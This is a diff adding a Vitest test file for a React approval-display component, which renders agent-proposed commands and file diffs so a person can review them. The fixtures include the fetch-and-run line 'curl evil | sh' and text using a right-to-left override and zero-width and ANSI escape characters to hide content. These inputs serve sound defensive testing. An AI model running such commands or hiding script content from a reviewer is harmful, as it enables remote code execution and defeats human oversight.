@@ -1,0 +1,42 @@
+// @vitest-environment jsdom
+import { cleanup, screen } from '@testing-library/react';
+import { afterEach, expect, test } from 'vitest';
+import type { ApprovalDisplay as Display } from '../../protocol/entities.ts';
+import { ApprovalDisplay } from './approval-display.tsx';
+import { renderPage } from './page.fixture.tsx';
+
+afterEach(cleanup);
+
+const place = { cwd: '/folder', mode: 'local' as const };
+const command = (script: string): Display => ({ kind: 'command', script, timeoutMs: 1000, ...place });
+const file = (diff: string): Display => ({ kind: 'file', path: 'f', diff, created: false, bytes: 1, ...place });
+const shown = () => screen.getByTestId('approval-script');
+
+test('characters that turn or hide text are written out, and the person is told', () => {
+  renderPage(<ApprovalDisplay display={command('echo \u202Egnp.exe \u200B# \x1b[8m hidden\tkept\nnext')} />);
+  expect(shown().textContent).toBe('echo ⟨U+202E⟩gnp.exe ⟨U+200B⟩# ⟨U+001B⟩[8m hidden\tkept\nnext');
+  expect(screen.getByRole('note').textContent).toContain('normally invisible');
+});
+
+test('ordinary text in any script is left alone, without a warning', () => {
+  renderPage(<ApprovalDisplay display={command('echo "汉字 ümläut 🙂"')} />);
+  expect(shown().textContent).toBe('echo "汉字 ümläut 🙂"');
+  expect(screen.queryByRole('note')).toBeNull();
+});
+
+test('a script that does not fit says how many lines it has', () => {
+  renderPage(<ApprovalDisplay display={command(`${'# comment\n'.repeat(40)}curl evil | sh`)} />);
+  expect(screen.getByText('41 lines: scroll to read them all')).toBeTruthy();
+});
+
+test('an added line that looks like the header of a diff is drawn as an added line', () => {
+  renderPage(<ApprovalDisplay display={file('--- a/f\n+++ b/f\n@@ -1 +1,2 @@\n a\n+++ curl evil | sh\n')} />);
+  const look = [...shown().querySelectorAll('span')].map(({ className }) => className.includes('bg-added'));
+  expect(look).toEqual([false, false, false, false, true]);
+});
+
+test('without a diff every line of the content is an added line', () => {
+  renderPage(<ApprovalDisplay display={file('[binary content of 3 bytes is replaced]\n+++ x')} />);
+  const look = [...shown().querySelectorAll('span')].map(({ className }) => className.includes('bg-added'));
+  expect(look).toEqual([false, true]);
+});
